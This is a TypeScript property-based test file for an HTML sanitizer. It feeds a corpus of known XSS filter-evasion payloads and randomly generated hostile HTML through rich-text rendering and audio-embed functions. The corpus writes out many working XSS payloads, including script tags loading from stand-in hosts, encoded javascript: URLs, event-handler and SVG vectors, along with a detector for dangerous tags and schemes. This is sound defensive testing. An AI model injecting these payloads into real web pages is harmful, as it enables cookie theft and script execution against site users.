import fc from 'fast-check';
import { parseDocument } from 'htmlparser2';
import type { AnyNode, Element } from 'domhandler';
import sanitizeHtml from 'sanitize-html';
import { renderAudioEmbed, renderBody } from './rich-text';
import { audioEmbedOptions, BODY_OPTIONS } from './sanitize-options';

const HOSTS = ['open.spotify.com', 'w.soundcloud.com'];

/** Known XSS payloads (OWASP filter-evasion cheat sheet and friends). */
const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//xss.example/x.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.example/xss.js?< B >',
  '<iframe src=http://xss.example/scriptlet.html <',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="java&#0000115;cript:alert(1)">click</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<body background="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="https://open.spotify.com/embed/x" onload="alert(1)"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/embed"></iframe>',
];

const DANGEROUS_SCHEME = /^(javascript|vbscript|data|livescript):/i;

/** Every element of a fragment. */
function elements(html: string): Element[] {
  const out: Element[] = [];
  const walk = (nodes: AnyNode[]) => {
    for (const node of nodes) {
      if (node.type === 'tag' || node.type === 'script' || node.type === 'style') {
        out.push(node as Element);
        walk((node as Element).children);
      }
    }
  };
  walk(parseDocument(html).children);
  return out;
}

/** Why `html` is not safe, or null: a script, an on* attribute, a script-bearing URL. */
function unsafe(html: string): string | null {
  for (const element of elements(html)) {
    if (
      ['script', 'style', 'object', 'embed', 'base', 'meta', 'link', 'svg', 'math'].includes(
        element.name,
      )
    )
      return `<${element.name}>`;
    for (const [name, value] of Object.entries(element.attribs)) {
      if (/^on/i.test(name)) return `${name} attribute`;
      if (name === 'srcdoc' || (name === 'style' && /url\(|expression/i.test(value))) return name;
      // Browsers ignore control characters and spaces inside a scheme: so does this check.
      // eslint-disable-next-line no-control-regex -- control characters are what browsers drop
      const url = value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '');
      if (DANGEROUS_SCHEME.test(url)) return `${name}=${value}`;
    }
  }
  return /<script/i.test(html) ? 'script text' : null;
}

/** HTML-ish input: allowed and forbidden tags, event handlers, hostile URLs, random text. */
const hostileHtml = (() => {
  const tag = fc.constantFrom(
    'p',
    'a',
    'img',
    'div',
    'span',
    'script',
    'svg',
    'iframe',
    'style',
    'math',
    'object',
    'table',
    'td',
    'h2',
    'ul',
    'li',
    'form',
    'details',
    'base',
  );
  const url = fc.oneof(
    fc.constantFrom(
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      ' java\tscript:alert(1)',
      '&#106;avascript:alert(1)',
      'vbscript:x',
      'data:text/html,<script>alert(1)</script>',
      'https://open.spotify.com/embed/a',
      'https://fabrion.example/x',
      '/relative',
      '#top',
      'mailto:a@b.c',
    ),
    fc.string({ maxLength: 20 }),
  );
  const attribute = fc.oneof(
    fc.tuple(
      fc.constantFrom('onclick', 'onerror', 'onload', 'ONMOUSEOVER', 'onfocus'),
      fc.string({ maxLength: 15 }),
    ),
    fc.tuple(
      fc.constantFrom('href', 'src', 'action', 'formaction', 'background', 'srcdoc', 'style'),
      url,
    ),
    fc.tuple(fc.constantFrom('title', 'alt', 'class', 'width'), fc.string({ maxLength: 15 })),
  );
  const attributeText = attribute.map(
    ([name, value]) => ` ${name}="${value.replace(/"/g, '&quot;')}"`,
  );
  const element = fc
    .tuple(
      tag,
      fc.array(attributeText, { maxLength: 3 }),
      fc.string({ maxLength: 20 }),
      fc.boolean(),
    )
    .map(
      ([name, attrs, text, close]) =>
        `<${name}${attrs.join('')}>${text}${close ? `</${name}>` : ''}`,
    );
  return fc
    .array(fc.oneof(element, fc.string({ maxLength: 20 }), fc.constantFrom(...CORPUS)), {
      minLength: 1,
      maxLength: 6,
    })
    .map((parts) => parts.join(''));
})();

describe('rich text sanitizing (XSS)', () => {
  it.each(CORPUS)('should neutralise the known payload %#', (payload) => {
    const body = renderBody(payload);
    expect([payload, unsafe(body)]).toEqual([payload, null]);
    const embed = renderAudioEmbed(payload, HOSTS);
    if (embed !== null) expect([payload, unsafe(embed)]).toEqual([payload, null]);
  });

  it('should let no script, on* attribute or script URL survive 1,000 generated bodies, and be a fixed point', () => {
    fc.assert(
      fc.property(hostileHtml, (input) => {
        const sut = renderBody(input);
        expect([input, unsafe(sut)]).toEqual([input, null]);
        expect(sanitizeHtml(sut, BODY_OPTIONS)).toBe(sut);
      }),
      { numRuns: 1000 },
    );
  });

  it('should keep at most one allowed-host iframe of 1,000 generated embeds, and be a fixed point', () => {
    fc.assert(
      fc.property(hostileHtml, (input) => {
        const sut = renderAudioEmbed(input, HOSTS);
        if (sut === null) return;
        expect([input, unsafe(sut)]).toEqual([input, null]);
        // Attributes keep the author's order, so the source is looked for anywhere in the tag.
        expect(sut).toMatch(
          /^<iframe\b[^>]*\ssrc="https:\/\/(open\.spotify\.com|w\.soundcloud\.com)\//,
        );
        expect(sanitizeHtml(sut, audioEmbedOptions(HOSTS))).toBe(sut);
      }),
      // The counterexample CI found: an author's attribute before the source is kept in place.
      {
        numRuns: 1000,
        examples: [['<iframe title=" " src="https://open.spotify.com/embed/a"><p>']],
      },
    );
  });
});
